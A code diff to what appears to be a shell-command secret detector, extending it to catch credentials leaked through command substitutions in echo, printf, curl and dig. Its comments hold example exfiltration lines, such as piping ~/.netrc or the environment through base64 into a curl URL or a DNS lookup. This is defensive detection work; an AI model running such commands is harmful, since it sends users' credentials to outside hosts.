@@ -136,6 +136,8 @@ export function secretsWritten(stage: SimpleCommand, ctx: SecretContext): Secret
   const name = commandName(words[0]);
   if (SUMMARIES.has(name)) return [];
   const out = [...printedSecrets(stage.argv, ctx), ...secretsOnStdin(stage, ctx)];
+  // `echo "$(cat ~/.aws/credentials)"` prints what its substitutions print.
+  if (name === 'echo' || name === 'printf') out.push(...secretsSubstituted(words.slice(1), stage, ctx));
   return GREPS.has(name) && narrowsEnvironment(words.slice(1)) ? out.filter((s) => !s.environment) : out;
 }
 
@@ -149,6 +151,27 @@ export function secretsOnStdin(cmd: Fed, ctx: SecretContext): Secret[] {
     .map((r) => ({ what: r.target.value }));
   if (cmd.stdinText) found.push(...secretsInText([cmd.stdinText], ctx));
   if (cmd.stdinFrom) found.push(...secretsWritten(cmd.stdinFrom, ctx));
+  return found;
+}
+
+/**
+ * The secrets the command substitutions among `words` put there (`curl https://x/$(cat ~/.netrc | base64)`,
+ * `dig $(env | base64 -w0 | head -c 60).x.example`): what their commands print, through the same stages as
+ * a pipeline's, and the files they read whole (`$(< ~/.aws/credentials)`).
+ */
+export function secretsSubstituted(
+  words: readonly Word[],
+  cmd: Pick<SimpleCommand, 'substitutions'>,
+  ctx: SecretContext,
+): Secret[] {
+  const found: Secret[] = [];
+  for (const sub of cmd.substitutions ?? []) {
+    // A word holds the substitution's text where its value goes (extract.ts, words.ts).
+    if (!words.some((w) => w.dynamic && w.value.includes(sub.text))) continue;
+    for (const file of sub.files)
+      if (!file.dynamic && isSecretFile(file.value, ctx)) found.push({ what: file.value });
+    for (const output of sub.outputs) found.push(...secretsWritten(output, ctx));
+  }
   return found;
 }
 
